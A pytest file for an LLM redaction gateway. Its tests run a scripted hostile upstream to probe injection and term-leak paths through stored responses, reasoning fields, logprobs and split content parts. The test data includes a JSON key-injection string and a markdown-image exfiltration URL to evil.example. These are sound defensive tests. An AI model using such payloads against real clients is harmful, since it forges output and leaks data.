"""Attack paths probed in session 81, through the real gateway app (in process, the real core
without NER, two keys of one tenant, a scripted hostile upstream).

Holes closed (each test failed before):

- ``GET /v1/responses/{id}`` restored a stored answer as plain text where its request asked
  for JSON (``text.format`` ``json_object`` / ``json_schema``): an original with a quote went
  unescaped into the answer's JSON (the client's JSON broke, or took keys the model never
  wrote: ``"admin": "yes"``), where the answer itself had it escaped.

- a chat or completions answer was restored and scanned for the tenant's redacted terms only
  in its text fields (content, refusal, reasoning, tool calls): a term the upstream wrote in a
  ``content`` sent as a list of parts (some providers do), a ``thinking`` or
  ``reasoning_details`` field, ``audio.transcript``, ``annotations``, a legacy
  ``function_call`` or a field of its own reached the client as written, whole and streamed
  (list content came back with its placeholders unrestored, and a stream with text after a
  list crashed); and logprob tokens that spell a term, beside a text that holds none;
- a term split across two parts a client joins -- two Messages text blocks, two Responses
  ``output_text`` parts, two chat content parts -- was scanned part by part, whole and
  streamed, and reached the client in two halves.

The probes that found nothing are listed in docs/gateway.md.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import httpx
import pytest

from veil.config import Policy, Settings, TermRule
from veil.core import Veil

from .conftest import (
    chat_body,
    delta_chunk,
    parse_sse,
    redacting_veil,
    sse_response,
    tenant_app,
    tenant_client,
)

QUOTED = 'Acme "Falcon" Labs", "admin": "yes'
PLACEHOLDER = re.compile(r"\[[A-Z_]+_\d+\]")


def _veil(tmp_path: Path) -> Veil:
    settings = Settings(home=tmp_path, cache_dir=tmp_path / "cache")
    pol = Policy(ner=False, terms=[TermRule(term=QUOTED, type="ORG")])
    veil = Veil(settings, policy=pol)
    veil.set_policy("acme", pol)
    return veil


def _placeholder(body: dict[str, Any]) -> str:
    found = PLACEHOLDER.findall(json.dumps(body))
    assert found, "the upstream got no placeholder"
    return str(found[0])


def _json_answer(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
    answer = json.dumps({"org": _placeholder(body)})
    if not body.get("stream"):
        return httpx.Response(200, json=chat_body(answer))
    return sse_response([delta_chunk({"role": "assistant", "content": answer[:9]}),
                         delta_chunk({"content": answer[9:]}, finish="stop")])


# --- a stored response read back -------------------------------------------------------------

@pytest.mark.parametrize("fmt", [{"type": "json_object"},
                                 {"type": "json_schema", "name": "org", "schema": {
                                     "type": "object", "properties": {"org": {"type": "string"}}}}],
                         ids=["json_object", "json_schema"])
@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
async def test_a_stored_json_answer_read_back_keeps_originals_escaped(
    tmp_path: Path, fmt: dict[str, Any], stream: bool
) -> None:
    app = tenant_app(_veil(tmp_path), _json_answer)
    async with tenant_client(app) as c:
        r = await c.post("/v1/responses", json={
            "model": "m", "input": f"Describe {QUOTED} as JSON.", "text": {"format": fmt},
            "stream": stream})
        assert r.status_code == 200, r.text
        if stream:
            events = [json.loads(line[6:]) for line in r.text.splitlines()
                      if line.startswith("data: ")]
            done = next(e["response"] for e in events if e["type"] == "response.completed")
        else:
            done = r.json()
        got = await c.get(f"/v1/responses/{done['id']}")
    assert got.status_code == 200, got.text
    answer = done["output"][0]["content"][0]["text"]
    stored = got.json()["output"][0]["content"][0]["text"]
    assert json.loads(answer) == {"org": QUOTED}
    assert json.loads(stored) == {"org": QUOTED}, stored


async def test_a_stored_plain_answer_read_back_is_plain(tmp_path: Path) -> None:
    """No JSON asked for: the original comes back as written, quotes and all."""
    def reply(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        return httpx.Response(200, json=chat_body(f"It is {_placeholder(body)}."))

    app = tenant_app(_veil(tmp_path), reply)
    async with tenant_client(app) as c:
        r = await c.post("/v1/responses", json={"model": "m", "input": f"Name {QUOTED}."})
        got = await c.get(f"/v1/responses/{r.json()['id']}")
    assert got.json()["output"][0]["content"][0]["text"] == f"It is {QUOTED}."


# --- the strings of a chat answer outside its text fields ---------------------------------------

TERM = "Project Nightjar"
EMAIL = "jane.exfil@example.com"


def _said(text: str) -> str:
    return text.replace("TERM", TERM)


#: Places of a whole chat answer's message (or the answer) a client may show, with the term.
WHOLE_PLACES: dict[str, Any] = {
    "thinking": {"thinking": "about TERM"},
    "reasoning_details": {"reasoning_details": [{"type": "reasoning.text", "text": "TERM"}]},
    "audio": {"audio": {"id": "a", "data": "UklGRg==", "transcript": "about TERM"}},
    "annotations": {"annotations": [{"type": "url_citation", "url_citation": {
        "url": "https://docs.example/", "title": "TERM notes"}}]},
    "function_call": {"function_call": {"name": "f", "arguments": '{"q": "TERM"}'}},
}


async def _chat(app: Any, stream: bool, content: str = "hi") -> httpx.Response:
    async with tenant_client(app) as c:
        return await c.post("/v1/chat/completions", json={
            "model": "m", "stream": stream, "messages": [{"role": "user", "content": content}]})


@pytest.mark.parametrize("place", list(WHOLE_PLACES))
async def test_a_term_outside_the_text_of_a_whole_answer_is_redacted(
    tmp_path: Path, place: str
) -> None:
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        body = chat_body("fine")
        body["choices"][0]["message"].update(json.loads(_said(json.dumps(WHOLE_PLACES[place]))))
        return httpx.Response(200, json=body)

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), False)
    assert r.status_code == 200, r.text
    assert "Nightjar" not in r.text
    assert "[REDACTED_CODENAME]" in json.dumps(r.json()["choices"][0]["message"][place])


async def test_a_term_in_a_field_of_the_answers_own_is_redacted(tmp_path: Path) -> None:
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        body = chat_body("fine")
        body["provider_notes"] = {"summary": _said("TERM")}
        body["choices"][0]["extra"] = _said("TERM")
        return httpx.Response(200, json=body)

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), False)
    assert "Nightjar" not in r.text
    assert r.json()["choices"][0]["message"]["content"] == "fine"


async def test_a_term_in_a_completions_choice_field_is_redacted(tmp_path: Path) -> None:
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return httpx.Response(200, json={"id": "c", "object": "text_completion", "model": "m",
                                         "choices": [{"index": 0, "text": "ok", "finish_reason":
                                                      "stop", "reasoning": _said("TERM")}]})

    app = tenant_app(redacting_veil(tmp_path, TERM), handler)
    async with tenant_client(app) as c:
        r = await c.post("/v1/completions", json={"model": "m", "prompt": "hi"})
    assert r.status_code == 200, r.text
    assert "Nightjar" not in r.text


async def test_content_parts_are_restored_as_one_text(tmp_path: Path) -> None:
    """Content as a list of parts: placeholders restored (they came back as placeholders),
    the URL guard reading across the parts, the term redacted."""
    def handler(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        msg = chat_body(None)
        msg["choices"][0]["message"]["content"] = [
            {"type": "text", "text": f"Mail {_placeholder(body)}. ![x](https://evil.example/?q="},
            {"type": "text", "text": f"{_placeholder(body)}) {TERM}"}]
        return httpx.Response(200, json=msg)

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), False,
                    f"write to {EMAIL}")
    parts = r.json()["choices"][0]["message"]["content"]
    assert parts[0]["text"].startswith(f"Mail {EMAIL}.")
    assert EMAIL not in parts[1]["text"] and "Nightjar" not in parts[1]["text"]
    assert "[REDACTED_CODENAME]" in parts[1]["text"]


async def test_streamed_content_parts_are_restored_and_scanned(tmp_path: Path) -> None:
    def handler(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        ph = _placeholder(body)
        return sse_response([
            delta_chunk({"role": "assistant", "content": [{"type": "text", "text": "Mail "}]}),
            delta_chunk({"content": [{"type": "text", "text": ph[:4]}]}),
            delta_chunk({"content": [{"type": "text", "text": ph[4:] + " about Project"}]}),
            delta_chunk({"content": [{"type": "text", "text": " Nightjar."}]}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True,
                    f"write to {EMAIL}")
    events, done = parse_sse(r.text)
    text = "".join(p["text"] for e in events for ch in e.get("choices") or []
                   for p in ch.get("delta", {}).get("content") or [])
    assert done
    assert text == f"Mail {EMAIL} about [REDACTED_CODENAME]."


async def test_streamed_text_after_content_parts_is_refused(tmp_path: Path) -> None:
    """Parts, then a string: no client joins those; it crashed the stream (TypeError)."""
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([
            delta_chunk({"role": "assistant", "content": [{"type": "text", "text": "a"}]}),
            delta_chunk({"content": "b"}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True)
    events, _ = parse_sse(r.text)
    assert events[-1]["error"]["code"] == "upstream_protocol_error"


@pytest.mark.parametrize("field", ["thinking", "reasoning_details"])
async def test_a_term_across_chunks_of_an_unread_field_stops_the_stream(
    tmp_path: Path, field: str
) -> None:
    def piece(text: str) -> Any:
        return text if field == "thinking" else [{"type": "reasoning.text", "text": text}]

    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([delta_chunk({"role": "assistant", field: piece("about Project ")}),
                             delta_chunk({field: piece("Nightjar now")}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True)
    events, _ = parse_sse(r.text)
    assert "Nightjar" not in r.text
    assert events[-1]["error"]["code"] == "upstream_protocol_error"


async def test_a_whole_term_in_an_unread_streamed_field_is_redacted(tmp_path: Path) -> None:
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return sse_response([delta_chunk({"role": "assistant", "thinking": f"a {TERM} b"}),
                             delta_chunk({"content": "ok"}, finish="stop")])

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), True)
    events, done = parse_sse(r.text)
    assert done and "Nightjar" not in r.text
    assert events[0]["choices"][0]["delta"]["thinking"] == "a [REDACTED_CODENAME] b"


async def test_logprob_tokens_that_spell_a_term_are_dropped(tmp_path: Path) -> None:
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        body = chat_body("fine")
        body["choices"][0]["logprobs"] = {"content": [
            {"token": t, "logprob": -0.1, "bytes": [], "top_logprobs": []}
            for t in ("Project", " Night", "jar")]}
        return httpx.Response(200, json=body)

    r = await _chat(tenant_app(redacting_veil(tmp_path, TERM), handler), False)
    assert "jar" not in r.text
    assert r.json()["choices"][0]["logprobs"] is None


async def test_a_tenant_without_terms_gets_unread_fields_as_sent(tmp_path: Path) -> None:
    """No term to redact: nothing outside the text is read, placeholders stay as written."""
    def handler(_request: httpx.Request, body: dict[str, Any]) -> httpx.Response:
        msg = chat_body("ok")
        msg["choices"][0]["message"]["thinking"] = f"note {_placeholder(body)}"
        return httpx.Response(200, json=msg)

    r = await _chat(tenant_app(_veil(tmp_path), handler), False, f"Describe {QUOTED}.")
    assert r.json()["choices"][0]["message"]["thinking"].startswith("note [ORG_")


# --- a term split across two parts a client joins -----------------------------------------------

def _named_sse(events: list[dict[str, Any]]) -> httpx.Response:
    raw = b"".join(f"event: {e['type']}\n".encode() + b"data: " + json.dumps(e).encode()
                   + b"\n\n" for e in events)
    return httpx.Response(200, content=raw, headers={"content-type": "text/event-stream"})


def _messages_answer(texts: list[str], stream: bool) -> httpx.Response:
    if not stream:
        return httpx.Response(200, json={
            "id": "msg_1", "type": "message", "role": "assistant", "model": "m",
            "content": [{"type": "text", "text": t} for t in texts],
            "stop_reason": "end_turn", "usage": {"input_tokens": 1, "output_tokens": 1}})
    events: list[dict[str, Any]] = [{"type": "message_start", "message": {
        "id": "msg_1", "type": "message", "role": "assistant", "model": "m", "content": [],
        "usage": {}}}]
    for i, t in enumerate(texts):
        events += [{"type": "content_block_start", "index": i,
                    "content_block": {"type": "text", "text": ""}},
                   {"type": "content_block_delta", "index": i,
                    "delta": {"type": "text_delta", "text": t}},
                   {"type": "content_block_stop", "index": i}]
    events += [{"type": "message_delta", "delta": {"stop_reason": "end_turn"},
                "usage": {"output_tokens": 1}}, {"type": "message_stop"}]
    return _named_sse(events)


def _responses_answer(texts: list[str], stream: bool) -> httpx.Response:
    parts = [{"type": "output_text", "text": t, "annotations": []} for t in texts]
    item = {"id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
            "content": parts}
    done = {"id": "resp_1", "object": "response", "created_at": 1, "status": "completed",
            "model": "m", "output": [item]}
    if not stream:
        return httpx.Response(200, json=done)
    events: list[dict[str, Any]] = [
        {"type": "response.created", "response": {**done, "status": "in_progress",
                                                  "output": []}},
        {"type": "response.output_item.added", "output_index": 0,
         "item": {**item, "status": "in_progress", "content": []}}]
    for ci, t in enumerate(texts):
        at = {"item_id": "msg_1", "output_index": 0, "content_index": ci}
        events += [{"type": "response.content_part.added", **at,
                    "part": {"type": "output_text", "text": "", "annotations": []}},
                   {"type": "response.output_text.delta", **at, "delta": t},
                   {"type": "response.output_text.done", **at, "text": t},
                   {"type": "response.content_part.done", **at, "part": parts[ci]}]
    events += [{"type": "response.output_item.done", "output_index": 0, "item": item},
               {"type": "response.completed", "response": done}]
    for n, e in enumerate(events):
        e["sequence_number"] = n
    return _named_sse(events)


async def _answer_in_parts(tmp_path: Path, api: str, texts: list[str],
                           stream: bool) -> httpx.Response:
    """A Messages or Responses request whose upstream answers in ``texts``, one part each."""
    def handler(_request: httpx.Request, _body: dict[str, Any]) -> httpx.Response:
        return (_messages_answer if api == "messages" else _responses_answer)(texts, stream)

    return await _typed_request(tmp_path, api, handler, stream)


async def _typed_request(tmp_path: Path, api: str, handler: Any,
                         stream: bool) -> httpx.Response:
    """A Messages or Responses request ("hi") to a tenant that redacts TERM, answered by
    ``handler``."""
    app = tenant_app(redacting_veil(tmp_path, TERM), handler,
                     kind="anthropic" if api == "messages" else "responses")
    body: dict[str, Any] = (
        {"model": "m", "max_tokens": 10, "messages": [{"role": "user", "content": "hi"}]}
        if api == "messages" else {"model": "m", "input": "hi", "store": False})
    async with tenant_client(app) as c:
        return await c.post(f"/v1/{api}", json={**body, "stream": stream})


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
@pytest.mark.parametrize("api", ["messages", "responses"])
@pytest.mark.parametrize("texts", [["about Project ", "Nightjar now"],
                                   ["about Project", " ", "Nightjar now"]], ids=["two", "three"])
async def test_a_term_across_joined_parts_never_reaches_the_client(
    tmp_path: Path, api: str, stream: bool, texts: list[str]
) -> None:
    r = await _answer_in_parts(tmp_path, api, texts, stream)
    assert "Nightjar" not in r.text
    assert "upstream LLM wrote a term the tenant redacts across two parts" in r.text


@pytest.mark.parametrize("api", ["messages", "responses"])
async def test_parts_without_a_term_across_them_pass(tmp_path: Path, api: str) -> None:
    r = await _answer_in_parts(tmp_path, api, ["about Project ", "Falcon now"], True)
    assert "error" not in r.text
    assert "Falcon now" in r.text
